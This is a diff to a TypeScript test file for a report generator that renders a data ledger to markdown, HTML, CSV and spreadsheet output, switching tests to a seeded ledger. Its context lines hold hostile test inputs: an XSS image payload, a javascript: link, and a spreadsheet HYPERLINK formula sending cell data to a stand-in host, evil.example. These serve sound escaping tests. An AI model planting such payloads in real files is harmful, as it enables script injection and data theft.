@@ -7,6 +7,7 @@ import { describe, expect, it } from "vitest";
 import { FIXED_OPTIONS, shippedLedger } from "../../test/support/reports.ts";
 import type { Ledger } from "../core/index.ts";
 import { writeDataPackage } from "../ledger/index.ts";
+import { seedLedger } from "../methods/index.ts";
 import { renderChartSvg } from "./charts.ts";
 import { toBibtex, toCslItems } from "./citations.ts";
 import { renderCsvFiles } from "./csv.ts";
@@ -17,7 +18,8 @@ import { escapeMarkdown, renderMarkdown } from "./markdown.ts";
 import { buildReport, footnoteParts, footnoteText, reportCharts } from "./model.ts";
 import { renderXlsx } from "./xlsx.ts";
 
-const ledger = shippedLedger();
+// The seed's figures: the ledger cut at the December 2024 submission's window (September 2024).
+const ledger = seedLedger(shippedLedger());
 const report = buildReport(ledger, { ...FIXED_OPTIONS, legal: readLegalFramework() });
 const SEED_FIGURES = ["923,000", "184,600", "958,000", "191,600", "39,547", "37,318", "198,000", "71.2", "26,000"];
 const unescapeXml = (s: string) =>
@@ -26,7 +28,7 @@ const sourceById = new Map(ledger.sources.map((s) => [s.id, s]));
 
 describe("markdown, html and csv", () => {
   it("are byte-identical for the same ledger and options", () => {
-    const again = buildReport(shippedLedger(), { ...FIXED_OPTIONS, legal: readLegalFramework() });
+    const again = buildReport(seedLedger(shippedLedger()), { ...FIXED_OPTIONS, legal: readLegalFramework() });
     expect(renderMarkdown(again)).toBe(renderMarkdown(report));
     expect(renderHtml(again)).toBe(renderHtml(report));
     expect([...renderCsvFiles(again)]).toEqual([...renderCsvFiles(report)]);
@@ -147,7 +149,7 @@ const IMG = "<img src=x onerror=alert(1)>";
 const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")';
 const MARKUP = "*b* _i_ [x](javascript:alert(1)) `c` \\ & <b>";
 function hostileLedger(): { ledger: Ledger; sourceId: string } {
-  const base = shippedLedger();
+  const base = seedLedger(shippedLedger());
   const sourceId = report.footnotes[0]!;
   const floorObservation = base.observations.find((o) => o.measure === "liuzhi_placements" && o.jurisdiction !== "CN")!;
   return {
